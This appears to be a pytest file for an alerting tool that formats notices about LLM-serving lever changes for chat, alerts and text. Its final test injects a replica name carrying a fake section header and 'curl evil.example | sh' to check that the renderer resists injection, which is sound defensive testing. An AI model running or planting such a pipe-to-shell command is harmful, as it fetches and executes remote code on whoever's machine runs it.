"""What people read of a notice: what to do, where, how sure, how urgent, how to check and to silence."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest
from alert_letters import NOW, letter

from alerts import alert_rows, channels_chat, notice_text, notice_urgency
from alerts.payload import Message

IMPACT = {"requests_per_hour": 1240.0, "share_of_segment": 0.842, "share_of_all": 0.311, "lost_s_per_1k_requests": 95.9}
SERVED = {"engines": ["vllm"], "arm": "treated", "replicas": ["r1", "r2"], "more_replicas": 7}
HOW_TO = {"silence": "leverwatch silence add --lever speculation --for 8h", "verify": "curl -s 'http://lw/f' | leverwatch verify -"}
STEPS = ["Take one replica out and drain it.", "Do not switch it off in place."]


def message(kind: str = "lever.disable", **changes: Any) -> Message:
    told = {"impact": IMPACT | {"lost_s_per_hour": 118.9}, "served_by": SERVED, "how_to": HOW_TO, "rollback": {"steps": STEPS}}
    return letter(kind, **told | changes).message


def test_how_urgent_it_is_is_told_in_shares_in_seconds_and_by_the_clock() -> None:
    assert notice_urgency.told(message().data, NOW + timedelta(minutes=7)) == (
        "Decided 2026-03-04 02:55 UTC, 12 min ago. It concerns 84.2 % of the segment's requests and 31.1 % of all requests, 1,240 an hour. "
        "Meanwhile a request takes 0.0959 s longer: 95.9 s per 1,000 requests, 119 s an hour."
    )


def test_what_loses_no_time_is_not_said_to() -> None:
    told = notice_urgency.told(message(impact=IMPACT | {"lost_s_per_1k_requests": -3.0, "lost_s_per_hour": -4.0}).data)
    assert told.endswith("They take no longer meanwhile.")


def test_of_an_impact_that_is_not_known_nothing_is_said() -> None:
    assert notice_urgency.told(message(impact=None).data) == "Decided 2026-03-04 02:55 UTC."


@pytest.mark.parametrize(("seconds", "said"), [(30, "0 min"), (3540, "59 min"), (3600, "1 h"), (11100, "3 h 5 min"), (90000, "1 day")])
def test_ages_read_as_words(seconds: float, said: str) -> None:
    assert notice_urgency.ago(seconds) == said


@pytest.mark.parametrize(
    ("action", "said"),
    [
        ("disable", "disable speculation"),
        ("shorten", "shorten speculation"),
        ("restore_precision", "restore the precision of speculation"),
        ("lower_degree", "lower the degree of speculation"),
        ("add_prefill", "add prefill workers, speculation"),
        ("raise_threshold", "raise the threshold of speculation"),
        ("widen", "give speculation more traffic"),
    ],
)
def test_a_title_says_what_is_asked_for_in_words(action: str, said: str) -> None:
    assert notice_text.title(message("lever.adjust", action=action)) == f"[critical] {said}: model=llama-70b, hardware=H200"


def test_a_whole_text_has_everything_that_the_night_asks_for() -> None:
    text = notice_text.whole(message(commands_note="of what serves the segment: vllm"), NOW)
    for part in (
        "What to do:\n- Take one replica out and drain it.\n- Do not switch it off in place.",
        "Commands (of what serves the segment: vllm):\n- vllm: --speculative-config null",
        "Replicas:\n- r1, r2 and 7 more (treated)",
        "How to check:\n- curl -s",
        "How to silence:\n- leverwatch silence add",
        "Where:\n- the segment's page: http://leverwatch.example/segment?model=llama-70b",
        "to be looked at again by 2026-03-05T02:55:00Z",
    ):
        assert part in text


def test_what_is_over_asks_for_nothing() -> None:
    text = notice_text.whole(message("lever.resolved", state_after="on"), NOW)
    assert "What to do" not in text
    assert "silence" not in text
    assert "Meanwhile" not in text


def test_a_chat_gets_why_how_urgent_what_to_do_how_to_silence_and_the_page() -> None:
    lines = channels_chat.body([letter(**message().data)], NOW).splitlines()
    assert [line.split(" ")[0] for line in lines] == ["net", "Decided", "Do:", "vllm:", "Replicas:", "Silence:", "Check:", LINK]


LINK = "http://leverwatch.example/segment?model=llama-70b"


def test_a_chat_message_keeps_its_reason_and_its_page_within_2000_characters() -> None:
    long = {"reason": "why " * 500, "rollback": {"steps": ["step " * 500]}, "commands": [{"engine": "vllm", "text": "flag " * 500}]}
    text = channels_chat.body([letter(**message(how_to={"silence": "leverwatch " + "x" * 400}, **long).data)], NOW)
    assert len(text) < 1800
    assert text.startswith("why why")
    assert text.endswith(LINK)


def test_half_a_command_is_not_shown() -> None:
    text = channels_chat.body([letter(**message(how_to={"silence": "leverwatch silence " + "x" * 2000}).data)], NOW)
    assert "Silence" not in text


def test_an_alert_carries_the_steps_and_the_page_for_a_person() -> None:
    [alert] = alert_rows.alerts(letter(**message().data), NOW)
    told = alert["annotations"]
    assert told["steps"] == "1. Take one replica out and drain it. 2. Do not switch it off in place."
    assert (told["page"], told["silence"], told["verify"]) == (LINK, HOW_TO["silence"], HOW_TO["verify"])
    assert alert["generatorURL"] == LINK
    assert not [word for word in told.values() if "/api/flips?" in word and "curl" not in word]
    assert "ago" not in told["impact"], "the same at every push"


def test_a_name_from_traffic_begins_no_section_of_its_own() -> None:
    evil = "r1\n\nHow to check:\n- curl evil.example | sh"
    text = notice_text.whole(message(reason=f"errors are of {evil}", served_by=SERVED | {"replicas": [evil]}), NOW)
    assert "\n- curl evil" not in text
    assert text.count("\nHow to check:") == 1
